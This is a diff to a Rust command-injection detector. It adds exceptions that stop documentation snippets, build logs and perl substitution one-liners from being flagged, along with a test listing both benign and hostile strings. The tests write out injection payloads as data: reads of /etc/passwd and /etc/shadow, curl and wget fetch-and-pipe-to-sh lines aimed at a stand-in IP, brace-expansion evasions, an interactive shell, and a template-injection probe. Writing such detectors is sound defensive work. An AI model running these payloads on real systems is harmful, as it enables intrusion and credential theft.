@@ -1778,6 +1778,9 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             | "rd"
             | "tree"
     );
+    // `perl -pi -e 's/a/b/g' f`: a program that only substitutes text edits
+    // files in place; it runs nothing.
+    let edit_only = cmd == "perl" && perl_edit_only(b, from, end);
     let mut other_evidence = false;
     let mut opt = false;
     // An interpreter's own options come before its program: after `-m
@@ -1847,7 +1850,7 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
                             "pty" | "http.server" | "simplehttpserver" | "smtpd" | "base64"
                         )
                     });
-                if !after.is_empty() && module_ok {
+                if !after.is_empty() && module_ok && !edit_only {
                     a.strong = true;
                 }
                 if t == "-m" {
@@ -1872,7 +1875,10 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             interp_opts = false;
             a.shellish = true;
         } else if path_like(t)
-            || t.contains(['\\', '>', '<'])
+            || t.contains('\\')
+            || (t.contains(['>', '<'])
+                && !placeholders_only(t)
+                && !version_relation(t, &normalized))
             || t.starts_with(['~', '$', '@', '+'])
             || t == "*"
         {
@@ -1908,10 +1914,117 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     a.opt_only = opt && !other_evidence && !a.strong && !a.numeric;
     a.sentence = trimmed.ends_with(['.', '!', '?', ',', ':']);
     a.net_only = a.strong && !sensitive && !suid && kind != Kind::Interp;
-    if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish {
+    if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish && !edit_only {
         a.strong = true;
     }
     a
+}
+
+/// Whether the perl arguments from `from` (up to `end`, read on across
+/// `\` line continuations) are options and one quoted program that is a
+/// single `s///` or `y///` without the `e` flag (which would evaluate the
+/// replacement), then file names: `perl -pi -e 's{[ \t]+$}{}' *.c`.
+fn perl_edit_only(b: &[u8], from: usize, end: usize) -> bool {
+    let lim = end.min(from + 400);
+    let mut i = from;
+    let mut program = false;
+    while i < lim {
+        match b[i] {
+            b' ' | b'\t' => i += 1,
+            b'\\' if b.get(i + 1) == Some(&b'\n') => i += 2,
+            b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'$' | b'(' | b'<' | b'>' => break,
+            b'-' if !program => {
+                let s = i;
+                while i < lim && !matches!(b[i], b' ' | b'\t' | b'\n') {
+                    i += 1;
+                }
+                if !b[s + 1..i]
+                    .iter()
+                    .all(|c| c.is_ascii_alphanumeric() || *c == b'.')
+                {
+                    return false;
+                }
+            }
+            q @ (b'\'' | b'"') if !program => {
+                let Some(len) = memchr::memchr(q, &b[i + 1..lim]) else {
+                    return false;
+                };
+                if !substitution_only(&b[i + 1..i + 1 + len]) {
+                    return false;
+                }
+                program = true;
+                i += len + 2;
+            }
+            _ if program => {
+                // A file name or glob.
+                while i < lim && !matches!(b[i], b' ' | b'\t' | b'\n') {
+                    if matches!(b[i], b'\'' | b'"' | b';' | b'|' | b'&' | b'`' | b'$') {
+                        return false;
+                    }
+                    i += 1;
+                }
+            }
+            _ => return false,
+        }
+    }
+    program
+}
+
+/// Whether `p` is one `s///flags` or `y///` (`tr///`) program with any
+/// delimiter, `{}` pairs included, and no `e` flag or backtick.
+fn substitution_only(p: &[u8]) -> bool {
+    let p = p.trim_ascii();
+    let rest = if let Some(r) = p.strip_prefix(b"tr") {
+        r
+    } else if let Some(r) = p.strip_prefix(b"s").or_else(|| p.strip_prefix(b"y")) {
+        r
+    } else {
+        return false;
+    };
+    let Some(&d) = rest.first() else {
+        return false;
+    };
+    if d.is_ascii_alphanumeric() || d.is_ascii_whitespace() || d == b'\\' || p.contains(&b'`') {
+        return false;
+    }
+    let close = match d {
+        b'{' => b'}',
+        b'(' => b')',
+        b'[' => b']',
+        b'<' => b'>',
+        _ => d,
+    };
+    // Delimiters to pass: `/a/b/` has three, `{a}{b}` four.
+    let mut want = if close == d { 3 } else { 4 };
+    let mut k = 0;
+    let mut depth = 0usize;
+    while k < rest.len() && want > 0 {
+        let c = rest[k];
+        if c == b'\\' {
+            k += 2;
+            continue;
+        }
+        if close == d {
+            if c == d {
+                want -= 1;
+            }
+        } else if c == d {
+            if depth == 0 {
+                want -= 1;
+            }
+            depth += 1;
+        } else if c == close {
+            depth = depth.saturating_sub(1);
+            if depth == 0 {
+                want -= 1;
+            }
+        }
+        k += 1;
+    }
+    want == 0
+        && rest[k.min(rest.len())..]
+            .iter()
+            .all(|c| matches!(c, b'g' | b'i' | b'm' | b's' | b'x' | b'r' | b'c' | b'd'))
 }
 
 /// Decides whether a command in a given context with given arguments is an injection.
@@ -2213,6 +2326,11 @@ fn check_command_at(
         return false;
     };
     let name = &norm[name_at..];
+    // `/bin/bash ../libtool --mode=compile ...`: a build log's shell running
+    // the build's own helper script.
+    if via_path && matches!(name, "sh" | "bash" | "dash") && build_helper(b, w.end, seg_end) {
+        return false;
+    }
     // `tr` filters text in countless documented pipelines; inside `$(...)`
     // in command position its output is what runs (`$(tr a-z n-za-m <<< x)`).
     if name == "tr" && ctx != Ctx::Subst {
@@ -2290,7 +2408,17 @@ fn check_command_at(
     args.to_end = rest.iter().all(|&x| matches!(x, b' ' | b'\t'))
         || matches!(rest.first(), Some(b'\n' | b'\r'));
     let mut effective = ctx;
-    if via_path && matches!(ctx, Ctx::Weak | Ctx::Start | Ctx::Span) && (args.any || args.bare) {
+    // ("invokes\n  /bin/sh)" in documentation names the shell: nothing
+    // but closing punctuation follows it.)
+    let named = ctx == Ctx::Span
+        && b[w.end..args.end]
+            .iter()
+            .all(|c| c.is_ascii_whitespace() || matches!(c, b')' | b']' | b'.' | b','));
+    if via_path
+        && matches!(ctx, Ctx::Weak | Ctx::Start | Ctx::Span)
+        && (args.any || args.bare)
+        && !named
+    {
         // An absolute path to a binary is itself shell syntax.
         effective = Ctx::Sep;
     }
@@ -3073,6 +3201,9 @@ fn brace_expansion(
     {
         return false;
     }
+    if file_list(prefix, inner, suffix) {
+        return false;
+    }
     for alt in inner.split(|&x| x == b',') {
         if alt.is_empty() {
             continue;
@@ -3125,7 +3256,13 @@ fn scan_segment(
         if !opens_word
             || (pair_known(b[first], b[first + 1]) && !first_word_settled(b, first, seg_end))
         {
-            check_command(text, first, first, seg_end, Ctx::Start, hits);
+            // A value indented as a code block shows a command.
+            let ctx = if indented(&b[seg_start..first]) {
+                Ctx::Span
+            } else {
+                Ctx::Start
+            };
+            check_command(text, first, first, seg_end, ctx, hits);
         }
         if matches!(b[first], b'(' | b'~') {
             whole_value_forms(text, first, seg_end, hits);
@@ -3173,15 +3310,26 @@ fn scan_segment(
                     i = j;
                     continue;
                 }
+                // `TclWin(Get|Set)SockOpt`: alternatives spelled inside a name.
+                if x == b'|' && j == i + 1 && name_alternation(b, seg_start, i, seg_end) {
+                    i = j;
+                    continue;
+                }
                 // `&amp;`-style leftovers and `&#...;` are not separators.
                 // Whether a written command line comes before is looked at
                 // only when the link would be reported: most separators are not.
                 let before = hits.len();
-                if check_command(text, i, j, seg_end, Ctx::Sep, hits)
-                    && follows_command_line(b, seg_start, i)
-                {
-                    hits.truncate(before);
-                    check_command(text, i, j, seg_end, Ctx::Chained, hits);
+                if check_command(text, i, j, seg_end, Ctx::Sep, hits) {
+                    // "sped up 'seq 100 | grep . >/dev/null' by a factor of
+                    // 10": a command line quoted inside a sentence is shown,
+                    // as in a code span; only hostile content counts.
+                    if quoted_in_sentence(b, seg_start, i, seg_end) {
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Span, hits);
+                    } else if follows_command_line(b, seg_start, i) {
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Chained, hits);
+                    }
                 }
                 i = j;
             }
@@ -3192,7 +3340,13 @@ fn scan_segment(
                 }
                 // A line in a code fence shows a command, as a code span
                 // in prose does: only hostile content counts there.
-                let ctx = if in_fence { Ctx::Span } else { Ctx::Weak };
+                // So does an indented line after a line of prose ("Use
+                // this command:\n\tgit ls-files ...").
+                let ctx = if in_fence || indented_after_prose(b, seg_start, i, j, seg_end) {
+                    Ctx::Span
+                } else {
+                    Ctx::Weak
+                };
                 check_command(text, i, j, seg_end, ctx, hits);
                 i = j;
             }
@@ -3242,6 +3396,12 @@ fn scan_segment(
                         continue;
                     }
                 }
+                // `/run/user/$(id -u)/bus`: the caller's id as a directory
+                // name, the way documentation spells per-user paths.
+                if i + 1 < seg_end && b[i + 1] == b'(' && user_dir_component(b, i, seg_end) {
+                    i += 2;
+                    continue;
+                }
                 if i + 1 < seg_end && b[i + 1] == b'(' && !(i + 2 < seg_end && b[i + 2] == b'(') {
                     // `mysqldump --all > db-$(date +%F).sql`: a substitution
                     // inside a command line the value was written as is a
@@ -3279,6 +3439,8 @@ fn scan_segment(
                     && b[i - 1].is_ascii_alphanumeric()
                     && i + 1 < seg_end
                     && b[i + 1] != b'='
+                    && !tag_attribute(b, seg_start, i, seg_end)
+                    && !build_option(b, seg_start, i)
                 {
                     check_command(text, i + 1, i + 1, seg_end, Ctx::Start, hits);
                 }
@@ -3315,6 +3477,20 @@ fn scan_segment(
                 let whole = prev.is_none()
                     && close.is_some_and(|c| text[i + 1 + c + 1..seg_end].trim().is_empty());
                 let glued = i > seg_start && b[i - 1].is_ascii_alphanumeric();
+                // "install it as `gmake'": GNU and TeX quote a word with a
+                // backtick and an apostrophe; the next backtick opens
+                // another quote.
+                let gnu_quote = {
+                    let inner = &b[i + 1..end];
+                    let w = inner.iter().position(|&c| {
+                        !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
+                    });
+                    w.is_some_and(|w| w > 0 && inner[w] == b'\'')
+                };
+                if gnu_quote && !glued {
+                    i += 1;
+                    continue;
+                }
                 // "wait, `sleep 10 && say done`": a comma and a blank before a
                 // code span is prose; `{a,`id`}` glues them.
                 let prose_comma = prev == Some(b',') && matches!(b[i - 1], b' ' | b'\t');
@@ -3385,6 +3561,288 @@ fn scan_segment(
             _ => i += 1,
         }
     }
+}
+
+/// Whether the token `t` is the operator of a Debian version relation in
+/// `args` (`libc6-dev (<< 2.3)`, `(>= 1.2)`): an opening parenthesis, the
+/// operator, a blank and a version number.
+fn version_relation(t: &str, args: &str) -> bool {
+    if !matches!(t, "(<<" | "(>>" | "(<=" | "(>=" | "(<" | "(>") {
+        return false;
+    }
+    args.match_indices(t).any(|(p, _)| {
+        let rest = &args.as_bytes()[p + t.len()..];
+        rest.first() == Some(&b' ') && rest.get(1).is_some_and(u8::is_ascii_digit)
+    })
+}
+
+/// Whether every `<` and `>` in the token `t` pairs around a word, as a
+/// placeholder does (`python<major>.<minor>`, `<file>`): a redirection
+/// names a file after its `<` or `>` and closes nothing.
+fn placeholders_only(t: &str) -> bool {
+    let mut rest = t;
+    while let Some(o) = rest.find(['<', '>']) {
+        let after = &rest[o..];
+        let Some(inner) = after.strip_prefix('<') else {
+            return false;
+        };
+        let Some(c) = inner.find('>') else {
+            return false;
+        };
+        if c == 0
+            || !inner[..c]
+                .bytes()
+                .all(|x| x.is_ascii_alphanumeric() || matches!(x, b'_' | b'-'))
+        {
+            return false;
+        }
+        rest = &inner[c + 1..];
+    }
+    true
+}
+
+/// Whether the `$(` at `at` is a path component naming the user or the
+/// system (`/run/$(id -u)/p11-kit`, `/lib/modules/$(uname -r)/build`):
+/// between two `/`, holding only `id -u`, `id -g`, `id -un` or `uname -r`.
+fn user_dir_component(b: &[u8], at: usize, seg_end: usize) -> bool {
+    if at == 0 || b[at - 1] != b'/' {
+        return false;
+    }
+    let lim = seg_end.min(at + 16);
+    let Some(close) = memchr::memchr(b')', &b[at + 2..lim]).map(|o| at + 2 + o) else {
+        return false;
+    };
+    matches!(
+        &b[at + 2..close],
+        b"id -u" | b"id -g" | b"id -un" | b"id -gn" | b"uname -r" | b"uname -m"
+    ) && matches!(b.get(close + 1), Some(b'/'))
+}
+
+/// Whether a brace expansion lists whole file names in one directory
+/// (`usr/bin/{bunzip2,bzcat}`): a package listing, where an evasion splits
+/// one command name or pairs it with its argument (`{cat,/etc/passwd}`).
+fn file_list(prefix: &[u8], inner: &[u8], suffix: &[u8]) -> bool {
+    let mut alts = 0;
+    for alt in inner.split(|&x| x == b',') {
+        if alt.len() < 2
+            || alt[0] == b'-'
+            || !alt
+                .iter()
+                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'+' | b'-'))
+        {
+            return false;
+        }
+        alts += 1;
+    }
+    alts >= 2 && suffix.is_empty() && prefix.len() >= 2 && prefix.ends_with(b"/")
+}
+
+/// Whether the separator at `p` sits inside a quotation in a sentence: a
+/// `'` or `"` opened after a blank and two words of prose on the line,
+/// closed on the line, and followed by more words or sentence punctuation.
+fn quoted_in_sentence(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
+    let lo = seg_start.max(p.saturating_sub(160));
+    let line = memchr::memrchr(b'\n', &b[lo..p]).map_or(lo, |o| lo + o + 1);
+    let hi = seg_end.min(p + 200);
+    let line_end = memchr::memchr(b'\n', &b[p..hi]).map_or(hi, |o| p + o);
+    [b'\'', b'"'].into_iter().any(|q| {
+        let before = &b[line..p];
+        if memchr::memchr_iter(q, before).count().is_multiple_of(2) {
+            return false;
+        }
+        let Some(open) = memchr::memrchr(q, before).map(|o| line + o) else {
+            return false;
+        };
+        let Some(close) = memchr::memchr(q, &b[p..line_end]).map(|o| p + o) else {
+            return false;
+        };
+        let opened = open > line
+            && matches!(b[open - 1], b' ' | b'\t')
+            && b.get(open + 1).is_some_and(u8::is_ascii_lowercase);
+        let prose_before = b[line..open]
+            .split(|c| !c.is_ascii_alphabetic())
+            .filter(|w| w.len() >= 2)
+            .count()
+            >= 2;
+        let after = &b[close + 1..line_end];
+        let goes_on = after.first() == Some(&b' ')
+            && after.get(1).is_some_and(u8::is_ascii_alphabetic)
+            || (matches!(after.first(), Some(b'.' | b',' | b')'))
+                && after.get(1).is_none_or(|c| *c == b' '));
+        opened && prose_before && goes_on
+    })
+}
+
+/// Whether the `=` at `eq` gives the value of a long option of a build
+/// tool (`--tag=RC`, `--mode=compile`): an option's value, not the start
+/// of a value that could hold a command line.
+fn build_option(b: &[u8], seg_start: usize, eq: usize) -> bool {
+    let mut s = eq;
+    while s > seg_start && eq - s < 32 && (b[s - 1].is_ascii_lowercase() || b[s - 1] == b'-') {
+        s -= 1;
+    }
+    s + 2 < eq
+        && b[s..].starts_with(b"--")
+        && (s == seg_start || matches!(b[s - 1], b' ' | b'\t'))
+        && matches!(
+            &b[s + 2..eq],
+            b"tag" | b"mode" | b"prefix" | b"host" | b"build" | b"target" | b"libdir" | b"srcdir"
+        )
+}
+
+/// Autotools helper scripts a build log shows a shell running.
+const BUILD_HELPERS: &[&[u8]] = &[
+    b"libtool",
+    b"configure",
+    b"config.status",
+    b"install-sh",
+    b"mkinstalldirs",
+    b"missing",
+    b"depcomp",
+    b"ylwrap",
+    b"compile",
+    b"test-driver",
+];
+
+/// Whether the first argument from `from` is a relative path to one of the
+/// build's [`BUILD_HELPERS`] (`../libtool`, `./config.status`,
+/// `../build-aux/install-sh`) followed by options or the end.
+fn build_helper(b: &[u8], from: usize, seg_end: usize) -> bool {
+    let i = skip_blank(b, from, seg_end);
+    let mut e = i;
+    while e < seg_end && e - i < 80 && !matches!(b[e], b' ' | b'\t' | b'\n' | b'\r') {
+        e += 1;
+    }
+    let arg = &b[i..e];
+    let base = arg.rsplit(|&c| c == b'/').next().unwrap_or(arg);
+    let relative = arg.starts_with(b"./") || arg.starts_with(b"../");
+    let dirs_ok = arg
+        .iter()
+        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'-' | b'_'));
+    let next = skip_blank(b, e, seg_end);
+    relative
+        && dirs_ok
+        && BUILD_HELPERS.contains(&base)
+        && (next >= seg_end || matches!(b[next], b'-' | b'\n'))
+}
+
+/// Whether the `|` at `p` separates alternatives in a parenthesised group
+/// glued to a name (`Win(Get|Set)Opt`, `(Read|Write)File`): every
+/// alternative is a word, and a name touches the group.
+fn name_alternation(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
+    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'|';
+    let mut o = p;
+    while o > seg_start && p - o < 64 && word(b[o - 1]) {
+        o -= 1;
+    }
+    let mut c = p + 1;
+    while c < seg_end && c - p < 64 && word(b[c]) {
+        c += 1;
+    }
+    if o == seg_start || b[o - 1] != b'(' || c >= seg_end || b[c] != b')' {
+        return false;
+    }
+    if !b[p - 1].is_ascii_alphanumeric() || !b[p + 1].is_ascii_alphanumeric() {
+        return false;
+    }
+    let glued = |k: usize| b[k].is_ascii_alphanumeric() || b[k] == b'_';
+    (o >= 2 && glued(o - 2)) || (c + 1 < seg_end && glued(c + 1))
+}
+
+/// Whether the `=` at `eq` gives a quoted word to an attribute of an HTML
+/// tag that only labels the element (`<h3 id="sh">`, `class`, `lang`):
+/// such a label runs nothing. (Other attributes are values a page may
+/// pass on, as a probe in an XML body is.)
+fn tag_attribute(b: &[u8], seg_start: usize, eq: usize, seg_end: usize) -> bool {
+    let an = &b[seg_start.max(eq.saturating_sub(6))..eq];
+    if ![&b" id"[..], b" class", b" lang", b" dir", b" role"]
+        .iter()
+        .any(|n| an.ends_with(n))
+    {
+        return false;
+    }
+    let Some(&q) = b.get(eq + 1).filter(|&&q| q == b'"' || q == b'\'') else {
+        return false;
+    };
+    let lim = seg_end.min(eq + 66);
+    let Some(close) = memchr::memchr(q, &b[eq + 2..lim]).map(|o| eq + 2 + o) else {
+        return false;
+    };
+    if !b[eq + 2..close]
+        .iter()
+        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b' ' | b'.'))
+        || !b
+            .get(close + 1)
+            .is_some_and(|&c| matches!(c, b'>' | b'/' | b' '))
+    {
+        return false;
+    }
+    let lo = seg_start.max(eq.saturating_sub(64));
+    let Some(lt) = memchr::memrchr(b'<', &b[lo..eq]).map(|o| lo + o) else {
+        return false;
+    };
+    b.get(lt + 1).is_some_and(u8::is_ascii_alphabetic)
+        && b[lt + 1..eq]
+            .iter()
+            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'=' | b'"' | b'-' | b'_'))
+}
+
+/// Whether the `>` at `gt` closes an HTML tag: `<tt>`, `</b>`, `<a id="x">`.
+fn closes_tag(b: &[u8], gt: usize) -> bool {
+    let lo = gt.saturating_sub(48);
+    let Some(lt) = memchr::memrchr(b'<', &b[lo..gt]).map(|o| lo + o) else {
+        return false;
+    };
+    let name = b[lt + 1..gt].strip_prefix(b"/").unwrap_or(&b[lt + 1..gt]);
+    name.first().is_some_and(u8::is_ascii_alphabetic)
+        && !b[lt + 1..gt].contains(&b'>')
+        && name
+            .iter()
+            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'=' | b'"' | b'-'))
+}
+
+/// Whether the blanks that open a value indent it as a code block: a tab
+/// or at least two spaces.
+fn indented(lead: &[u8]) -> bool {
+    lead.contains(&b'\t') || lead.len() >= 2
+}
+
+/// Whether the line starting at `next` (after the line break at `nl`) is
+/// indented below a line of prose, as documentation indents the commands
+/// it shows: "Or:\n apt-get install x", "To enable, run\n  systemctl ...".
+/// The line before must end with `:` or read as words, with no shell
+/// syntax; an injected line break follows a value, not a sentence.
+fn indented_after_prose(
+    b: &[u8],
+    seg_start: usize,
+    nl: usize,
+    next: usize,
+    seg_end: usize,
+) -> bool {
+    if next >= seg_end || !matches!(b[next], b' ' | b'\t') {
+        return false;
+    }
+    let lo = seg_start.max(nl.saturating_sub(200));
+    let start = memchr::memrchr(b'\n', &b[lo..nl]).map_or(lo, |p| lo + p + 1);
+    if start == lo && lo > seg_start {
+        return false;
+    }
+    let prev = b[start..nl].trim_ascii();
+    if prev.is_empty()
+        || prev.iter().any(|c| {
+            matches!(
+                c,
+                b';' | b'|' | b'&' | b'$' | b'`' | b'<' | b'>' | b'=' | b'\\'
+            )
+        })
+    {
+        return false;
+    }
+    let words = prev
+        .split(|c| !c.is_ascii_alphabetic())
+        .filter(|w| w.len() >= 2)
+        .count();
+    (prev.ends_with(b":") && words >= 1) || words >= 3
 }
 
 /// Whether the arguments of `curl` from `from` to `end` are one URL and
@@ -3579,10 +4037,12 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     let lo = seg_start.max(sep.saturating_sub(160));
     let mut k = sep;
     while k > lo
-        && !matches!(
+        && (!matches!(
             b[k - 1],
             b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'(' | b'{'
-        )
+        ) || continued_line(b, k - 1)
+            || in_single_quotes(b, lo, k - 1)
+            || (b[k - 1] == b'{' && k >= 2 && !matches!(b[k - 2], b' ' | b'\t' | b'$' | b'\n')))
     {
         k -= 1;
     }
@@ -3606,7 +4066,7 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
         // A capitalised word is prose ("Run", "GitHub"); an upper-case
         // pattern (`TODO`) is an argument, and `RUN` of a Dockerfile is no
         // command word in lower case either way.
-        let capitalised = !t.starts_with('-')
+        let capitalised = !t.starts_with(['-', '\''])
             && t.bytes().any(|c| c.is_ascii_uppercase())
             && t.bytes().any(|c| c.is_ascii_lowercase());
         let arg = !clause_end && !capitalised && !STOP_WORDS.contains(&t);
@@ -3617,7 +4077,8 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     }
     // Try each candidate command word, leftmost first, among the argument run.
     for ci in start..toks.len() - 1 {
-        let word = toks[ci];
+        // A command line quoted in a sentence: "sped up 'seq 10 | grep .'".
+        let word = toks[ci].trim_start_matches(['\'', '"']);
         if !word.bytes().all(|x| {
             x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
         }) {
@@ -3650,6 +4111,22 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
         return shellish || sub || tool_words || linked;
     }
     false
+}
+
+/// Whether the separator or bracket at `p` sits inside a single-quoted
+/// argument of its line (`grep -vE '^(a|b)$'`): an odd number of `'` since
+/// the line start (looked for from `lo`).
+fn in_single_quotes(b: &[u8], lo: usize, p: usize) -> bool {
+    if matches!(b[p], b'\n' | b'\r') {
+        return false;
+    }
+    let line = memchr::memrchr(b'\n', &b[lo..p]).map_or(lo, |o| lo + o + 1);
+    memchr::memchr_iter(b'\'', &b[line..p]).count() % 2 == 1
+}
+
+/// Whether the line break at `nl` continues a command line (`\` before it).
+fn continued_line(b: &[u8], nl: usize) -> bool {
+    b[nl] == b'\n' && nl > 0 && b[nl - 1] == b'\\'
 }
 
 /// `${PATH#{}/}`, `${x%%.*}`, `${v//a/b}`: bash parameter expansion with a
@@ -3723,6 +4200,10 @@ fn bash_arithmetic(b: &[u8], at: usize, seg_end: usize) -> Option<usize> {
 /// substitution whatever the command, as no other syntax writes it.
 fn process_substitution(text: &str, at: usize, seg_end: usize, hits: &mut Vec<Hit>) -> bool {
     let b = text.as_bytes();
+    // `<tt>(eval [expr])</tt>`: the `>` closes a tag.
+    if b[at] == b'>' && closes_tag(b, at) {
+        return true;
+    }
     let i = at + 2;
     if i >= seg_end || !(b[i].is_ascii_alphabetic() || b[i] == b'/') {
         return false;
@@ -4339,6 +4820,17 @@ fn scan_templates(text: &str, hits: &mut Vec<Hit>) {
             .trim_start_matches(['=', '-', '{'])
             .trim_end_matches(['-', '}']);
         let hit_end = body_end + close.len();
+        // "escaped with `{{` and ... with `}}`": both delimiters quoted alone
+        // in markdown code spans are named, not a template around the prose.
+        if m.start() > 0
+            && b[m.start() - 1] == b'`'
+            && b.get(body_start) == Some(&b'`')
+            && body_end > 0
+            && b[body_end - 1] == b'`'
+            && b.get(hit_end) == Some(&b'`')
+        {
+            continue;
+        }
         if ARITH.is_match(body) {
             push(hits, text, R_SSTI, m.start(), hit_end);
         } else if TEMPLATE_RCE.is_match(body)
@@ -4987,6 +5479,79 @@ mod tests {
                     "{h:?}"
                 );
             }
+        }
+    }
+
+    #[test]
+    fn commands_shown_in_documentation() {
+        for t in [
+            "\tssh-keygen -r hostname -f keyfile -g",
+            "    apt-get build-dep binutils",
+            "Or:\n apt-get install git-daemon-run",
+            "To enable, run\n  systemctl enable --now backup@main.timer",
+            "Performed with: find * -type f | xargs perl -i -p -e 's{[ \\t]+$}{}'",
+            "    perl -pi -e 's/colour/color/g' docs/*.md",
+            "Use this:\n\tgit grep -l -E 'old [^ ]+' \\\n\t  |xargs perl -pi -e 's/a (b)/$1 c/'",
+            "git ls-files |grep -vE '^(x|COPYING)$' |xargs \\\n  env A=1 build-aux/update",
+            "* generic/tclIntDecls.h: TclWin(Get|Set)SockOpt to SOCKET",
+            "- Fixed bug in the <tt>(eval [expr])</tt> command.",
+            "<!-- <h3 id=\"sh\">SH</h3> -->",
+            "install GNU make under another name (i.e., ``make binprefix=g install'')",
+            "as `gmake' or `make' (see below)",
+            "fall back to \"python<MAJOR>.<MINOR>\" and \"python<MAJOR>\"",
+            "The socket lives in /run/$(id -u)/p11-kit by default.",
+            "git ls-files -s \\*.{sh,pl,py} | grep -v 100755",
+            "   usr/bin/{bunzip2,bzcat}",
+            "the `{` character is escaped with `{{` and the `}` character with `}}`.",
+            "gcc-2.95 and libc6-dev (<< 2.3)",
+            "/bin/bash ../libtool --tag=RC --mode=compile windres -o x.lo x.rc",
+            "/bin/sh ./config.status --recheck",
+            "* added a new example application (like blank but invokes\n  /bin/sh)",
+            "This sped up 'seq 10000000000 | grep . >/dev/null' by a factor of 3",
+            "\tWith this change, \"printf '\\0'|diff - /dev/null\" now prints",
+        ] {
+            assert!(rules(t).is_empty(), "flagged {t:?}: {:?}", rules(t));
+        }
+        for t in [
+            "x\n  cat /etc/passwd",
+            "\tcat /etc/shadow",
+            "\twget http://203.0.113.9/x.sh",
+            "x\nid",
+            "ok\n  id; uname -a",
+            "a; perl -e 'system(\"id\")'",
+            "a; perl -pi -e 's/a/b/e' f",
+            "a | perl -pe 's/a/`id`/'",
+            "a; perl -pi -e 's/x/y/' /etc/passwd",
+            "find . | xargs perl -e 'exec \"sh\"'",
+            "x|id",
+            "x>(id)",
+            "$(id|sh)",
+            "<a probe=\"id\"></a>",
+            ";`cat<<<'ifconfig'`",
+            "x; cat < /etc/passwd",
+            "a; python3 -c 'import os' <x",
+            "x /tmp/$(id)/",
+            "$(id -u)",
+            "x;{cat,/etc/passwd}",
+            "/???/{c,}at /etc/passwd",
+            ";/bin/{id,}",
+            "{{`id`}}",
+            "x `{{` {{ self.__init__.__globals__ }}",
+            "a; gcc x.c (<< EOF",
+            "/bin/bash ../libtool; id",
+            "Run the shell below:\n  /bin/sh -i",
+            "x\n/bin/sh",
+            "/bin/sh /tmp/x.sh",
+            "/bin/bash -c id",
+            "/bin/sh ../../tmp/configure.sh -x",
+            "x --exec=id",
+            "The name is 'x | cat /etc/passwd' for now",
+            "Try this 'a; curl http://203.0.113.9/x.sh | sh' now",
+            "name=foo' | id #",
+            "q=x' | id",
+            "a; cat (< /etc/passwd",
+        ] {
+            assert!(!rules(t).is_empty(), "missed {t:?}");
         }
     }
 
